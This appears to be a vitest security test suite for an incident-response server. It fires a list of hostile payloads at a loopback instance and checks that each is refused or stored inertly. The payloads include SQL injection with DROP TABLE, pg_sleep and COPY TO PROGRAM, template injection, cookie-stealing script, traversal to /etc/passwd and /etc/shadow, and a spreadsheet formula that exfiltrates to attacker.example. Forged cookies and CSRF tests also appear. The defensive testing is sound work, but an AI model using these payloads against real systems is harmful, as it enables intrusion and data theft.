/**
 * Hostile input against a live server on loopback (issue 5): real sockets, real HTTP. SQL and
 * template injection and script go into every free-text field a caller can set; each is either
 * refused with a coded 4xx or stored exactly as sent and never interpreted (no table dropped,
 * no sleep run, no template expression evaluated in a notice). Path traversal in file names,
 * oversize bodies (declared and chunked), forged session cookies, a cross-site request and a
 * revoked API token are each refused, and nothing is stored by them.
 */
import type { AddressInfo } from 'node:net';
import { and, count, eq, sql } from 'drizzle-orm';
import { afterAll, beforeAll, expect, it } from 'vitest';
import type { Db, Store } from '../../src/store/db.ts';
import { notices, signals } from '../../src/store/schema.ts';
import { describeEachBackend } from '../support/backends.ts';
import {
  approveAndDeliver,
  declaredInvestigation,
  noticeOf,
} from '../notify/declared-investigation.ts';
import { startTestServer, type TestServer } from '../support/server.ts';
import { addTestPerson, PASSWORD } from '../support/sign-in.ts';

/** What attackers type into text fields. None may be interpreted; all may be stored as text. */
const HOSTILE = [
  "' OR '1'='1' --",
  "x'); DROP TABLE audit_log; --",
  '1; SELECT pg_sleep(8); --',
  "$$; COPY (SELECT 1) TO PROGRAM 'id'; --",
  '{{ 6 | times: 7 }}',
  "{% assign leaked = 'yes' %}{{ leaked }}",
  '${6*7}',
  '<%= 6*7 %>',
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror=alert(1)>',
  '../../../../etc/passwd',
  '=HYPERLINK("http://attacker.example/?"&A1)',
];

interface Sent {
  field: string;
  payload: string;
  status: number;
  ms: number;
}

describeEachBackend('hostile input against a live server', (backend) => {
  let store: Store;
  let server: TestServer;
  let base: string;
  let investigationId: string;
  let noticeId: string;
  const sent: Sent[] = [];
  let tablesBefore: string[];

  beforeAll(async () => {
    store = await backend.open();
    investigationId = await declaredInvestigation(store.db);
    noticeId = (await noticeOf(store.db, investigationId, 'acme', 'tenant')).id;
    await approveAndDeliver(store.db, noticeId);
    await addTestPerson(store.db, { email: 'ada@provider.example', role: 'responder' });

    server = await startTestServer(store, {
      server: { signIn: { plainHttpCookies: true } },
    });
    await server.app.listen({ host: '127.0.0.1', port: 0 });
    base = `http://127.0.0.1:${(server.app.server.address() as AddressInfo).port}`;
    tablesBefore = await tableNames(store.db);
  }, 120_000);
  afterAll(async () => {
    await server.app.close();
    await store.close();
  });

  async function call(
    method: string,
    path: string,
    role: string | null,
    body?: unknown,
    headers: Record<string, string> = {},
  ) {
    const res = await fetch(`${base}${path}`, {
      method,
      headers: {
        ...(role === null ? {} : server.as(role)),
        ...(body === undefined ? {} : { 'content-type': 'application/json' }),
        ...headers,
      },
      // A string is sent as it is (NDJSON intake); anything else as JSON.
      body: body === undefined || typeof body === 'string' ? body : JSON.stringify(body),
    });
    const text = await res.text();
    // eslint-disable-next-line @typescript-eslint/no-unsafe-return -- answers are read as JSON
    return { status: res.status, headers: res.headers, text, json: () => JSON.parse(text) };
  }

  /** Sends one hostile value; a 5xx or a slow answer fails the sweep at the end. */
  async function attack(
    field: string,
    payload: string,
    send: () => ReturnType<typeof call>,
  ): Promise<Awaited<ReturnType<typeof call>>> {
    const t0 = Date.now();
    const res = await send();
    sent.push({ field, payload, status: res.status, ms: Date.now() - t0 });
    expect(res.status, `${field} ← ${payload}: ${res.text}`).toBeLessThan(500);
    expect(res.headers.get('content-type') ?? '').toMatch(/^application\/json/);
    return res;
  }

  it('stores a report title and description exactly as sent, as data', async () => {
    for (const p of HOSTILE) {
      const res = await attack('report.title', p, () =>
        call('POST', '/api/v1/reports', 'responder', { title: `Seen: ${p}`, description: p }),
      );
      expect(res.status).toBe(201);

      const read = await call('GET', `/api/v1/reports/${res.json().id}`, 'responder');
      expect(read.json()).toMatchObject({ title: `Seen: ${p}`, description: p });
    }
  });

  it('stores alert titles and hosts from intake as data', async () => {
    for (const [i, p] of HOSTILE.entries()) {
      const alert = {
        id: `hostile-${i}`,
        time: '2026-12-01T10:00:00Z',
        title: p,
        host: p,
        sourceKind: 'automated_alert',
      };
      const res = await attack('intake.generic.title', p, () =>
        call('POST', '/api/v1/intake/generic', 'admin', JSON.stringify(alert), {
          'content-type': 'application/x-ndjson',
        }),
      );
      expect(res.status, res.text).toBeLessThan(300);
    }

    const titles = await store.db
      .select({ title: signals.title })
      .from(signals)
      .where(and(eq(signals.format, 'generic'), eq(signals.sourceKind, 'automated_alert')));
    expect(titles.map((t) => t.title).sort()).toEqual([...HOSTILE].sort());
  });

  it('keeps transition and suppression reasons, contacts and token labels as data', async () => {
    for (const p of HOSTILE) {
      // diagnose ⇄ stabilize may be walked as often as needed, each move with its reason.
      for (const to of ['stabilize', 'diagnose']) {
        const moved = await attack('transition.reason', p, () =>
          call('POST', `/api/v1/investigations/${investigationId}/transitions`, 'responder', {
            to,
            reason: p,
          }),
        );
        expect(moved.status, moved.text).toBe(200);
      }

      const rule = await attack('suppression.reason', p, () =>
        call('POST', '/api/v1/suppression-rules', 'admin', {
          match: { host: `host-${sent.length}.example` },
          reason: p,
          expiresAt: new Date(Date.now() + 86_400_000).toISOString(),
        }),
      );
      expect(rule.status, rule.text).toBe(201);
      expect(rule.json().reason).toBe(p);

      const contact = await attack('contact.name', p, () =>
        call('POST', '/api/v1/tenants/acme/contacts', 'admin', {
          name: p,
          email: `dpo-${sent.length}@acme.example`,
          language: 'en',
        }),
      );
      expect(contact.status, contact.text).toBe(201);
      expect(contact.json().name).toBe(p);

      // Token labels are names for machines: outside their alphabet they are refused, by name.
      const token = await attack('token.label', p, () =>
        call('POST', '/api/v1/tokens', 'admin', { label: `${p} ${sent.length}`, role: 'auditor' }),
      );
      expect(token.status, token.text).toBe(400);
      expect(token.json().error.field).toBe('label');
    }

    const detail = await call('GET', `/api/v1/investigations/${investigationId}`, 'responder');
    const reasons = (detail.json().transitions as { reason: string }[]).map((t) => t.reason);
    for (const p of HOSTILE) expect(reasons).toContain(p);
  });

  it('keeps post-mortems, summaries, evidence approvals and training notes as data', async () => {
    const url = `/api/v1/investigations/${investigationId}`;
    for (const p of HOSTILE) {
      const pm = await attack('postmortem', p, () =>
        call('POST', `${url}/postmortem`, 'incident_manager', {
          summary: p,
          rootCause: p,
          lessons: p,
          actions: [p],
        }),
      );
      expect(pm.status, pm.text).toBe(200);
      const readPm = await call('GET', `${url}/postmortem`, 'incident_manager');
      expect(readPm.json().postmortem).toMatchObject({ summary: p, rootCause: p, actions: [p] });

      const summary = await attack('customer_summary.body', p, () =>
        call('POST', `${url}/customer-summary`, 'incident_manager', { body: p }),
      );
      expect(summary.status, summary.text).toBe(201);

      const approval = await attack('evidence_approval.reason', p, () =>
        call('POST', `${url}/evidence-approvals`, 'incident_manager', {
          scope: { kinds: ['signals'] },
          reason: `For the regulator: ${p}`,
          recipient: p,
        }),
      );
      expect(approval.status, approval.text).toBe(201);

      const training = await attack('training.note', p, () =>
        call('POST', '/api/v1/training/completions', 'admin', {
          person: 'ada@provider.example',
          topic: 'duty-to-report',
          completedAt: new Date().toISOString(),
          note: p,
        }),
      );
      expect(training.status, training.text).toBe(201);

      const team = await attack('team.person', p, () =>
        call('POST', `${url}/team`, 'incident_manager', { person: p, teamRole: 'member' }),
      );
      expect(team.status, team.text).toBe(404);
    }

    const summaries = await call('GET', `${url}/customer-summary`, 'incident_manager');
    const bodies = (summaries.json() as { body: string }[]).map((b) => b.body);
    expect(bodies.sort()).toEqual(HOSTILE.map((p) => p.trim()).sort());
    const approvals = await call('GET', `${url}/evidence-approvals`, 'incident_manager');
    const recipients = (approvals.json() as { recipient: string }[]).map((a) => a.recipient);
    expect(recipients.sort()).toEqual([...HOSTILE].sort());
  });

  it('never evaluates a template expression a user wrote into a notice', async () => {
    const payload = '{{ 6 | times: 7 }} {% if true %}IF-RAN{% endif %} ${6*7}';
    const res = await attack('followup.what', payload, () =>
      call('POST', `/api/v1/notices/${noticeId}/follow-ups`, 'incident_manager', {
        what: payload,
      }),
    );
    expect(res.status, res.text).toBe(201);

    const [followUp] = await store.db
      .select()
      .from(notices)
      .where(eq(notices.followsNoticeId, noticeId));
    expect(followUp?.body).toContain(payload);
    expect(followUp?.body).not.toContain('IF-RAN ');
    expect(followUp?.body).not.toMatch(/(^|\s)42(\s|$)/);
  });

  it('refuses SQL in sign-in fields as a wrong password, never an error', async () => {
    for (const p of HOSTILE) {
      const res = await attack('login.email', p, () =>
        call('POST', '/api/v1/auth/login', null, { email: p, password: p }),
      );
      expect([401, 429]).toContain(res.status);
    }
  });

  it('refuses path traversal in scoping file names and stores no run', async () => {
    for (const path of ['../../../../etc/passwd', '/etc/shadow', 'logs/../../secret.json']) {
      const res = await attack('scoping.paths', path, () =>
        call('POST', `/api/v1/investigations/${investigationId}/scoping`, 'responder', {
          paths: [path],
          format: 'cloudtrail',
          indicators: { principals: ['arn:aws:iam::1:user/x'] },
        }),
      );
      expect(res.status, res.text).toBeGreaterThanOrEqual(400);
      expect(res.json().error.code).toMatch(/^BD_SCOPE_/);
    }
  });

  it('refuses oversize bodies, declared or chunked, and stores nothing', async () => {
    const before = await reportCount(store.db);
    const huge = JSON.stringify({ title: 'big', description: 'x'.repeat(3 * 1024 * 1024) });

    const declared = await call('POST', '/api/v1/reports', 'responder', JSON.parse(huge));
    expect(declared.status).toBe(413);
    expect(declared.json().error.code).toBe('BD_REQUEST_TOO_LARGE');

    // No Content-Length: the limit must hold while the body streams in.
    const bytes = new TextEncoder().encode(huge);
    const stream = new ReadableStream<Uint8Array>({
      start(controller) {
        for (let i = 0; i < bytes.length; i += 64 * 1024) {
          controller.enqueue(bytes.slice(i, i + 64 * 1024));
        }
        controller.close();
      },
    });
    const chunked = await fetch(`${base}/api/v1/reports`, {
      method: 'POST',
      headers: { ...server.as('responder'), 'content-type': 'application/json' },
      body: stream,
      duplex: 'half',
    });
    expect(chunked.status).toBe(413);

    expect(await reportCount(store.db)).toBe(before);
  });

  it('refuses forged session cookies', async () => {
    const forged = [
      'bd_session=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA',
      "bd_session=' OR '1'='1",
      `bd_session=${'A'.repeat(6000)}`,
      'bd_session=a; bd_session=b',
    ];
    const real = await call('POST', '/api/v1/auth/login', null, {
      email: 'ada@provider.example',
      password: PASSWORD,
    });
    const cookie = String(real.headers.get('set-cookie')).split(';')[0] as string;
    const token = cookie.slice('bd_session='.length);
    // The real token with its last character changed.
    forged.push(`bd_session=${token.slice(0, -1)}${token.endsWith('A') ? 'B' : 'A'}`);

    for (const c of forged) {
      const res = await call('GET', '/api/v1/auth/me', null, undefined, { cookie: c });
      expect(res.status, c.slice(0, 40)).toBe(401);
    }
    const ok = await call('GET', '/api/v1/auth/me', null, undefined, { cookie });
    expect(ok.status).toBe(200);
  });

  it('refuses a cross-site request riding the session cookie; stores nothing', async () => {
    const login = await call('POST', '/api/v1/auth/login', null, {
      email: 'ada@provider.example',
      password: PASSWORD,
    });
    const cookie = String(login.headers.get('set-cookie')).split(';')[0] as string;
    const csrf = login.json().csrfToken as string;
    const before = await reportCount(store.db);

    const body = { title: 'Submitted by a page on another site' };
    const noToken = await call('POST', '/api/v1/reports', null, body, { cookie });
    const otherOrigin = await call('POST', '/api/v1/reports', null, body, {
      cookie,
      'x-csrf-token': csrf,
      origin: 'https://attacker.example',
    });
    for (const res of [noToken, otherOrigin]) {
      expect(res.status).toBe(403);
      expect(res.json().error.code).toBe('BD_CSRF');
    }
    expect(await reportCount(store.db)).toBe(before);

    // The same request from our own page goes through.
    const own = await call('POST', '/api/v1/reports', null, body, {
      cookie,
      'x-csrf-token': csrf,
      origin: base,
    });
    expect(own.status).toBe(201);
  });

  it('refuses an API token replayed after its revocation; stores nothing', async () => {
    const created = await call('POST', '/api/v1/tokens', 'admin', {
      label: 'replay-me',
      role: 'responder',
    });
    const { id, token } = created.json() as { id: string; token: string };
    const auth = { authorization: `Bearer ${token}` };
    const body = { title: 'From a machine' };

    expect((await call('POST', '/api/v1/reports', null, body, auth)).status).toBe(201);
    expect((await call('DELETE', `/api/v1/tokens/${id}`, 'admin')).status).toBeLessThan(300);
    const before = await reportCount(store.db);

    const replay = await call('POST', '/api/v1/reports', null, body, auth);
    expect(replay.status).toBe(401);
    expect(await reportCount(store.db)).toBe(before);
  });

  it('after the sweep: every table is there, nothing slept, the audit chain holds', async () => {
    expect(sent.length).toBeGreaterThan(HOSTILE.length * 6);
    expect(sent.filter((s) => s.status >= 500)).toEqual([]);
    // pg_sleep(8) never ran: no single request took anywhere near that long.
    expect(Math.max(...sent.map((s) => s.ms))).toBeLessThan(8000);
    expect(await tableNames(store.db)).toEqual(tablesBefore);

    const verify = await call('GET', '/api/v1/audit/verify', 'auditor');
    expect(verify.status).toBe(200);
    expect(verify.json()).toMatchObject({ ok: true });
  });
});

async function tableNames(db: Db): Promise<string[]> {
  const res: unknown = await db.execute(
    sql.raw(
      "SELECT table_name AS t FROM information_schema.tables WHERE table_schema = 'public' " +
        'ORDER BY table_name',
    ),
  );
  return (res as { rows: { t: string }[] }).rows.map((r) => r.t);
}

async function reportCount(db: Db): Promise<number> {
  const [row] = await db.select({ n: count() }).from(signals);
  return row?.n ?? 0;
}
